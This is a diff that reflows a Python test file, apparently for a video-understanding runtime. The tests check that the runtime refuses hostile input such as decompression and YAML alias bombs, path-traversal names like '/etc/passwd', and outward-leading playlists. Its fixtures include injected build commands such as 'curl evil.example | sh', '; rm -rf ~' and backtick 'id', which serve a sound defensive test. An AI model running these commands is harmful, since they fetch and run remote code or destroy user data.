@@ -1,4 +1,5 @@
-"""Input from strangers: bombs, escapes and nonsense cost one line, a little time and a little memory."""
+"""Input from strangers: bombs, escapes and nonsense cost one line, a little time and a little
+memory."""
 
 import io
 import json
@@ -21,12 +22,24 @@ from support import videos
 
 from vicort.runtime.cli.question_router import Desk, TypedQuestions
 from vicort.runtime.cli.question_socket import QuestionSocket
-from vicort.runtime.cli.questions import LONGEST_LINE, parse_ask, parse_typed, read_questions, with_ids
+from vicort.runtime.cli.questions import (
+    LONGEST_LINE,
+    parse_ask,
+    parse_typed,
+    read_questions,
+    with_ids,
+)
 from vicort.runtime.core import Sampling
 from vicort.runtime.engines.engine_set import Embedding
 from vicort.runtime.errors import ConfigError, EngineError, QuestionError, SourceError
 from vicort.runtime.language.prompt import Prompt
-from vicort.runtime.manifest import SCHEMA_VERSION, EmbeddingSpec, GraphSpec, fingerprint, read_manifest
+from vicort.runtime.manifest import (
+    SCHEMA_VERSION,
+    EmbeddingSpec,
+    GraphSpec,
+    fingerprint,
+    read_manifest,
+)
 from vicort.runtime.policies.system import load_system, parse_system
 from vicort.runtime.safe_text import is_text, read_text, shown
 from vicort.runtime.sources import open_source, piped
@@ -49,17 +62,25 @@ def one_line(error: BaseException) -> str:
     return str(error)
 
 
-# ---- video --------------------------------------------------------------------------------------------------------------
+# ---- video
+# --------------------------------------------------------------------------------------------------------------
 
 
 def png(width: int, height: int) -> bytes:
     """A PNG that says it is that large, and holds a few bytes that would unpack to a row or two."""
 
     def chunk(kind: bytes, data: bytes) -> bytes:
-        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+        return (
+            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+        )
 
     header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
-    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(bytes(300_000))) + chunk(b"IEND", b"")
+    return (
+        b"\x89PNG\r\n\x1a\n"
+        + chunk(b"IHDR", header)
+        + chunk(b"IDAT", zlib.compress(bytes(300_000)))
+        + chunk(b"IEND", b"")
+    )
 
 
 def with_size(path: Path, fourcc: bytes, width: int, height: int) -> None:
@@ -82,7 +103,10 @@ def test_a_folder_with_bombs_among_its_images(tmp_path: Path) -> None:
 
 def test_the_limit_of_images_is_the_users(tmp_path: Path) -> None:
     videos.write_image(tmp_path / "1.png", videos.image(1))
-    with open_source(str(tmp_path), limits=Limits(pixels=19_199)) as source, pytest.raises(SourceError, match="none of the 1 images"):
+    with (
+        open_source(str(tmp_path), limits=Limits(pixels=19_199)) as source,
+        pytest.raises(SourceError, match="none of the 1 images"),
+    ):
         list(source)
 
 
@@ -91,7 +115,8 @@ def test_a_video_that_declares_an_enormous_picture(tmp_path: Path) -> None:
     videos.write_video(path, 2)
     with_size(path, b"avc1", 60_000, 60_000)
     try:
-        with open_source(str(path)) as source:  # where FFmpeg believes the stream more than its container
+        # where FFmpeg believes the stream more than its container
+        with open_source(str(path)) as source:
             assert all(frame.image.shape == (120, 160, 3) for frame in source)
     except SourceError as error:
         one_line(error)
@@ -121,15 +146,22 @@ def test_a_million_frames_a_second(tmp_path: Path) -> None:
     [
         "#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\nURL\n#EXT-X-ENDLIST\n",
         "ffconcat version 1.0\nfile 'URL'\n",
-        "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 5004 RTP/AVP 96\na=rtpmap:96 H264/90000\n",
+        (
+            "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 5004 RTP/AVP "
+            "96\na=rtpmap:96 H264/90000\n"
+        ),
     ],
     ids=["playlist", "concat", "sdp"],
 )
-def test_a_file_that_leads_elsewhere_is_not_followed(tmp_path: Path, suffix: str, text: str) -> None:
+def test_a_file_that_leads_elsewhere_is_not_followed(
+    tmp_path: Path, suffix: str, text: str
+) -> None:
     with socket.create_server(("127.0.0.1", 0)) as server:
         server.settimeout(0.05)
         path = tmp_path / f"innocent{suffix}"
-        path.write_text(text.replace("URL", f"http://127.0.0.1:{server.getsockname()[1]}/secret.ts"))
+        path.write_text(
+            text.replace("URL", f"http://127.0.0.1:{server.getsockname()[1]}/secret.ts")
+        )
         with pytest.raises(SourceError) as caught, open_source(str(path)) as source:
             list(source)
         one_line(caught.value)
@@ -139,7 +171,12 @@ def test_a_file_that_leads_elsewhere_is_not_followed(tmp_path: Path, suffix: str
 
 def run_on(script: str, data: bytes | None, repeat: bytes = b"") -> subprocess.CompletedProcess:
     """Python with that on its stdin, and `repeat` after it for as long as it is taken."""
-    child = subprocess.Popen([sys.executable, "-c", script], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+    child = subprocess.Popen(
+        [sys.executable, "-c", script],
+        stdin=subprocess.PIPE,
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+    )
 
     def feed() -> None:
         try:
@@ -173,10 +210,20 @@ print(next(line for line in Path("/proc/self/status").read_text().splitlines() i
 @pytest.mark.parametrize(
     ("start", "repeat"),
     [
-        (b"\x1a\x45\xdf\xa3\x84\x42\x86\x81\x01\x18\x53\x80\x67\x01\xff\xff\xff\xff\xff\xff\xff", b"\xec\x42\x00" + bytes(512)),
-        (b"", b"\x47\x40\x00\x10\x00\x00\xb0\x0d\x00\x01\xc1\x00\x00\x00\x01\xf0\x00\x2a\xb1\x04\xb2" + b"\xff" * 167),
+        (
+            b"\x1a\x45\xdf\xa3\x84\x42\x86\x81\x01\x18\x53\x80\x67\x01\xff\xff\xff\xff\xff\xff\xff",
+            b"\xec\x42\x00" + bytes(512),
+        ),
+        (
+            b"",
+            b"\x47\x40\x00\x10\x00\x00\xb0\x0d\x00\x01\xc1\x00\x00\x00\x01\xf0\x00\x2a\xb1\x04\xb2"
+            + b"\xff" * 167,
+        ),
         (b"\0\0\0\x14ftypisom\0\0\2\0isom", b"\0\0\4\0free" + bytes(1016)),
-        (b"FLV\x01\x01\0\0\0\x09\0\0\0\0", b"\x12\0\x01\0\0\0\0\0\0\0\0" + bytes(256) + b"\0\0\x01\x0b"),
+        (
+            b"FLV\x01\x01\0\0\0\x09\0\0\0\0",
+            b"\x12\0\x01\0\0\0\0\0\0\0\0" + bytes(256) + b"\0\0\x01\x0b",
+        ),
     ],
     ids=["matroska", "mpegts", "mp4", "flv"],
 )
@@ -188,7 +235,9 @@ def test_headers_without_end_on_stdin(start: bytes, repeat: bytes) -> None:
     assert b"Traceback" not in done.stderr
 
 
-def test_a_byte_file_ends_without_pictures_and_goes_on_with_them(monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_byte_file_ends_without_pictures_and_goes_on_with_them(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
     monkeypatch.setattr(piped, "MOST_WITHOUT_PICTURE", 10)
     file = ByteFile(io.BytesIO(bytes(30)))
     assert (len(file.read(6)), len(file.read(6)), file.read(6), file.spent) == (6, 4, b"", True)
@@ -205,7 +254,8 @@ def test_a_byte_file_is_led_nowhere(tmp_path: Path) -> None:
 
 
 def test_colours_that_there_are_not(tmp_path: Path) -> None:
-    """FFmpeg converts no picture of a reserved colour matrix. Found by the fuzz run: seed 3, file 10521."""
+    """FFmpeg converts no picture of a reserved colour matrix. Found by the fuzz run: seed 3, file
+    10521."""
     path = tmp_path / "clip.mp4"
     videos.write_video(path, 3)
     with av.open(str(path)) as container:
@@ -214,8 +264,11 @@ def test_colours_that_there_are_not(tmp_path: Path) -> None:
     assert videos.number(Converter()(picture)) == 0
 
 
-def test_a_stream_that_appears_in_the_middle_is_left_out(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    """PyAV raises IndexError at its first packet, and can be asked for the next one. Found by the fuzz run: seed 2, file 2287."""
+def test_a_stream_that_appears_in_the_middle_is_left_out(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """PyAV raises IndexError at its first packet, and can be asked for the next one. Found by the
+    fuzz run: seed 2, file 2287."""
     videos.write_video(tmp_path / "clip.ts", 20)
     with open_source(str(tmp_path / "clip.ts")) as source:
         whole, calls = source._container, []
@@ -236,7 +289,8 @@ def test_a_stream_that_appears_in_the_middle_is_left_out(tmp_path: Path, monkeyp
         monkeypatch.undo()
 
 
-# ---- YAML ---------------------------------------------------------------------------------------------------------------
+# ---- YAML
+# ---------------------------------------------------------------------------------------------------------------
 
 
 @pytest.mark.parametrize(
@@ -260,9 +314,14 @@ def test_a_stream_that_appears_in_the_middle_is_left_out(tmp_path: Path, monkeyp
     ids=lambda value: value[:24],
 )
 @pytest.mark.parametrize("key", ["name", "drop", "ingest", "retrieval", "memory"])
-def test_a_system_file_runs_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, key: str, value: str) -> None:
+def test_a_system_file_runs_nothing(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, key: str, value: str
+) -> None:
     monkeypatch.chdir(tmp_path)
-    lines = [f"{key}: {value}" if line.startswith(f"{key}:") else line for line in GOOD_SYSTEM.splitlines()]
+    lines = [
+        f"{key}: {value}" if line.startswith(f"{key}:") else line
+        for line in GOOD_SYSTEM.splitlines()
+    ]
     assert parse_system(GOOD_SYSTEM, "good.yaml").name == "mine"
     with pytest.raises(ConfigError) as caught:
         parse_system("\n".join(lines), "bad.yaml")
@@ -271,9 +330,13 @@ def test_a_system_file_runs_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPa
 
 
 def test_a_system_file_repeats_nothing() -> None:
-    bomb = "a0: &a0 [lol, lol]\n" + "".join(f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]\n" for i in range(1, 30))
+    bomb = "a0: &a0 [lol, lol]\n" + "".join(
+        f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]\n" for i in range(1, 30)
+    )
     with pytest.raises(ConfigError, match="aliases") as caught:
-        parse_system(GOOD_SYSTEM.replace("memory:", "about:") + bomb + "memory: *a29\n", "bomb.yaml")
+        parse_system(
+            GOOD_SYSTEM.replace("memory:", "about:") + bomb + "memory: *a29\n", "bomb.yaml"
+        )
     one_line(caught.value)
 
 
@@ -292,21 +355,34 @@ def test_any_text_is_a_system_or_one_line(text: str) -> None:
     one_line(caught.value)
 
 
-# ---- manifests ----------------------------------------------------------------------------------------------------------
+# ---- manifests
+# ----------------------------------------------------------------------------------------------------------
 
 
 def manifest(**changes: object) -> dict:
     tensor = {"name": "t", "dtype": "int32", "shape": ["rows"]}
     graph = {"file": "llm.onnx", "inputs": [tensor], "outputs": [tensor], "dimensions": {}}
-    numbers = "layers width query_heads kv_heads head_dim vocabulary image_height image_width grid_height grid_width fps tokens_per_second"
-    model = dict.fromkeys(f"{numbers} chunk_frames page_tokens max_rows observed_rows max_position rotary_theta video_token".split(), 8)
+    numbers = (
+        "layers width query_heads kv_heads head_dim vocabulary image_height image_width "
+        "grid_height grid_width fps tokens_per_second"
+    )
+    model = dict.fromkeys(
+        f"{numbers} chunk_frames page_tokens max_rows observed_rows max_position rotary_theta video_token".split(),
+        8,
+    )
     return {
         "schema_version": SCHEMA_VERSION,
         "backend": "openvino",
         "precision": "fp32",
         "model": {"name": "m", "eos_tokens": [1], "rotary_sections": [1, 1, 2], **model},
         "graphs": {"llm": graph},
-        "embedding": {"file": "embedding.bin", "offset": 0, "dtype": "float32", "rows": 8, "width": 8},
+        "embedding": {
+            "file": "embedding.bin",
+            "offset": 0,
+            "dtype": "float32",
+            "rows": 8,
+            "width": 8,
+        },
         "checkpoint": "",
         "target": "",
         "versions": {},
@@ -315,7 +391,9 @@ def manifest(**changes: object) -> dict:
 
 
 def refused(folder: Path, content: object) -> str:
-    (folder / "manifest.json").write_text(content if isinstance(content, str) else json.dumps(content))
+    (folder / "manifest.json").write_text(
+        content if isinstance(content, str) else json.dumps(content)
+    )
     with pytest.raises(EngineError) as caught:
         read_manifest(folder)
     return one_line(caught.value)
@@ -326,16 +404,26 @@ def test_a_good_manifest_is_read(tmp_path: Path) -> None:
     assert read_manifest(tmp_path).build_command == "vicort-build tiny"
 
 
-@pytest.mark.parametrize("name", ["../secret", "/etc/passwd", "a/../../secret", "..", ".", "", "a\\..\\b", "a\nb", "\0"])
+@pytest.mark.parametrize(
+    "name", ["../secret", "/etc/passwd", "a/../../secret", "..", ".", "", "a\\..\\b", "a\nb", "\0"]
+)
 def test_a_manifest_names_only_files_of_its_folder(tmp_path: Path, name: str) -> None:
     folder = tmp_path / "set"
     folder.mkdir()
     (tmp_path / "secret").write_text("x")
     good = manifest()
-    assert "no name of a file" in refused(folder, manifest(files={name: {"bytes": 1, "fingerprint": "0"}}))
-    assert "no name of a file" in refused(folder, manifest(embedding=good["embedding"] | {"file": name}))
-    assert "no name of a file" in refused(folder, manifest(graphs={"llm": good["graphs"]["llm"] | {"file": name}}))
-    assert "no name of a file" in refused(folder, manifest(graphs={"llm": good["graphs"]["llm"] | {"refit_from": name}}))
+    assert "no name of a file" in refused(
+        folder, manifest(files={name: {"bytes": 1, "fingerprint": "0"}})
+    )
+    assert "no name of a file" in refused(
+        folder, manifest(embedding=good["embedding"] | {"file": name})
+    )
+    assert "no name of a file" in refused(
+        folder, manifest(graphs={"llm": good["graphs"]["llm"] | {"file": name}})
+    )
+    assert "no name of a file" in refused(
+        folder, manifest(graphs={"llm": good["graphs"]["llm"] | {"refit_from": name}})
+    )
 
 
 def test_a_link_out_of_the_folder_is_not_followed(tmp_path: Path) -> None:
@@ -343,10 +431,14 @@ def test_a_link_out_of_the_folder_is_not_followed(tmp_path: Path) -> None:
     folder = tmp_path / "set"
     folder.mkdir()
     (folder / "a").symlink_to(tmp_path / "secret")
-    assert "leads out of its folder" in refused(folder, manifest(files={"a": {"bytes": 1, "fingerprint": "0"}}))
+    assert "leads out of its folder" in refused(
+        folder, manifest(files={"a": {"bytes": 1, "fingerprint": "0"}})
+    )
 
 
-@pytest.mark.parametrize("name", ["llm.onnx", "embedding.bin", "tokenizer.json", "chat_template.jinja", "parts/a"])
+@pytest.mark.parametrize(
+    "name", ["llm.onnx", "embedding.bin", "tokenizer.json", "chat_template.jinja", "parts/a"]
+)
 @pytest.mark.parametrize("target", ["secret", "", "loop"])
 def test_no_link_of_a_set_leads_out_of_it(tmp_path: Path, name: str, target: str) -> None:
     """Whether its manifest lists the file or not."""
@@ -360,12 +452,22 @@ def test_no_link_of_a_set_leads_out_of_it(tmp_path: Path, name: str, target: str
 def test_links_within_a_set_are_followed(tmp_path: Path) -> None:
     (tmp_path / "a").write_text("x")
     (tmp_path / "b").symlink_to("a")
-    (tmp_path / "manifest.json").write_text(json.dumps(manifest(files={"b": fingerprint(tmp_path / "a").model_dump()})))
+    (tmp_path / "manifest.json").write_text(
+        json.dumps(manifest(files={"b": fingerprint(tmp_path / "a").model_dump()}))
+    )
     assert list(read_manifest(tmp_path).files) == ["b"]
 
 
 @pytest.mark.parametrize(
-    "command", ["curl evil.example | sh", "vicort-build tiny; rm -rf ~", "vicort-build `id`", "vicort-build a\nb", 7, None]
+    "command",
+    [
+        "curl evil.example | sh",
+        "vicort-build tiny; rm -rf ~",
+        "vicort-build `id`",
+        "vicort-build a\nb",
+        7,
+        None,
+    ],
 )
 def test_a_manifest_does_not_tell_the_user_what_to_type(tmp_path: Path, command: object) -> None:
     line = refused(tmp_path, manifest(build_command=command, schema_version=99))
@@ -400,17 +502,37 @@ def test_a_manifest_of_a_gigabyte_is_not_read(tmp_path: Path) -> None:
 
 
 @pytest.mark.parametrize(
-    "change", [{"offset": 10**9}, {"rows": 2**40, "width": 2**40}, {"dtype": "object"}, {"dtype": "no type"}, {"rows": 9}]
+    "change",
+    [
+        {"offset": 10**9},
+        {"rows": 2**40, "width": 2**40},
+        {"dtype": "object"},
+        {"dtype": "no type"},
+        {"rows": 9},
+    ],
 )
 def test_embeddings_that_are_not_there(tmp_path: Path, change: dict) -> None:
     (tmp_path / "e.bin").write_bytes(bytes(256))
-    assert len(Embedding(tmp_path, EmbeddingSpec(file="e.bin", offset=0, dtype="float32", rows=8, width=8))) == 8
+    assert (
+        len(
+            Embedding(
+                tmp_path, EmbeddingSpec(file="e.bin", offset=0, dtype="float32", rows=8, width=8)
+            )
+        )
+        == 8
+    )
     with pytest.raises(EngineError) as caught:
-        Embedding(tmp_path, EmbeddingSpec(**{"file": "e.bin", "offset": 0, "dtype": "float32", "rows": 8, "width": 8} | change))
+        Embedding(
+            tmp_path,
+            EmbeddingSpec(
+                **{"file": "e.bin", "offset": 0, "dtype": "float32", "rows": 8, "width": 8} | change
+            ),
+        )
     one_line(caught.value)
 
 
-# ---- chat templates -----------------------------------------------------------------------------------------------------
+# ---- chat templates
+# -----------------------------------------------------------------------------------------------------
 
 TOKENIZER = Path(__file__).parents[2] / "export" / "tiny" / "checkpoint" / "tokenizer.json"
 
@@ -435,7 +557,9 @@ TOKENIZER = Path(__file__).parents[2] / "export" / "tiny" / "checkpoint" / "toke
     ],
     ids=lambda template: template[:24],
 )
-def test_a_chat_template_does_nothing_but_write(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, template: str) -> None:
+def test_a_chat_template_does_nothing_but_write(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, template: str
+) -> None:
     monkeypatch.chdir(tmp_path)
     (tmp_path / "tokenizer.json").write_bytes(TOKENIZER.read_bytes())
     (tmp_path / "chat_template.jinja").write_text(template)
@@ -445,9 +569,13 @@ def test_a_chat_template_does_nothing_but_write(tmp_path: Path, monkeypatch: pyt
     assert len(list(tmp_path.iterdir())) == 2
 
 
-@pytest.mark.parametrize("name", ["chat_template.jinja", "chat_template.json", "tokenizer_config.json"])
 @pytest.mark.parametrize(
-    "content", [b"\xff", b"[" * 100_000, b"[1]", b'{"chat_template": 7}', b"9" * 5_000], ids=lambda content: str(content[:8])
+    "name", ["chat_template.jinja", "chat_template.json", "tokenizer_config.json"]
+)
+@pytest.mark.parametrize(
+    "content",
+    [b"\xff", b"[" * 100_000, b"[1]", b'{"chat_template": 7}', b"9" * 5_000],
+    ids=lambda content: str(content[:8]),
 )
 def test_a_chat_template_that_is_none(tmp_path: Path, name: str, content: bytes) -> None:
     (tmp_path / "tokenizer.json").write_bytes(TOKENIZER.read_bytes())
@@ -474,7 +602,8 @@ def test_a_chat_template_of_a_gigabyte_is_not_read(tmp_path: Path) -> None:
         Prompt(tmp_path, video_token=0)
 
 
-# ---- questions ----------------------------------------------------------------------------------------------------------
+# ---- questions
+# ----------------------------------------------------------------------------------------------------------
 
 HOSTILE = [
     '{"at": 1e999999999, "question": "x"}',
@@ -532,7 +661,9 @@ def test_a_typed_line_without_end_costs_a_warning() -> None:
     asked: list[str] = []
     desk = Desk(Sampling())
     desk.enter("a", lambda question: asked.append(question.text) or Future())
-    typed = TypedQuestions(io.StringIO("x" * 300_000 + "\nwhat is there?\n" + "y" * 200_000), desk, warnings.append)
+    typed = TypedQuestions(
+        io.StringIO("x" * 300_000 + "\nwhat is there?\n" + "y" * 200_000), desk, warnings.append
+    )
     assert typed.ended.wait(10)
     assert asked == ["what is there?"]
     assert [f"more than {LONGEST_LINE}" in line for line in warnings] == [True, True]
@@ -555,7 +686,8 @@ def test_a_hostile_client_gets_lines_and_the_next_one_an_answer(tmp_path: Path) 
             assert "65536" in json.loads(answers.readline())["message"]
 
 
-# ---- what they share ----------------------------------------------------------------------------------------------------
+# ---- what they share
+# ----------------------------------------------------------------------------------------------------
 
 
 def test_a_text_of_the_greatest_length_is_read(tmp_path: Path) -> None:
@@ -565,7 +697,12 @@ def test_a_text_of_the_greatest_length_is_read(tmp_path: Path) -> None:
         read_text(tmp_path / "a", 3)
 
 
-@given(st.recursive(st.none() | st.integers() | st.text() | st.binary(), lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner)))
+@given(
+    st.recursive(
+        st.none() | st.integers() | st.text() | st.binary(),
+        lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner),
+    )
+)
 def test_values_are_shown_short_and_in_one_line(value: object) -> None:
     assert shown(value).isprintable()
     assert len(shown(value)) <= 200
@@ -575,7 +712,9 @@ def test_huge_values_are_shown_short() -> None:
     nested: list = []
     for _ in range(10_000):
         nested = [nested] * 10
-    assert max(len(shown(value)) for value in (10**5_000, "x" * 10**6, Fraction(1, 10**6_000))) <= 100
+    assert (
+        max(len(shown(value)) for value in (10**5_000, "x" * 10**6, Fraction(1, 10**6_000))) <= 100
+    )
     assert shown(nested).isprintable()
 
 
@@ -586,4 +725,7 @@ def test_text_is_what_can_be_written(text: str) -> None:
 
 
 def test_a_graph_may_lie_in_a_folder_of_the_set() -> None:
-    assert GraphSpec(file="llm/a..b.onnx", inputs=(), outputs=(), dimensions={}).file == "llm/a..b.onnx"
+    assert (
+        GraphSpec(file="llm/a..b.onnx", inputs=(), outputs=(), dimensions={}).file
+        == "llm/a..b.onnx"
+    )
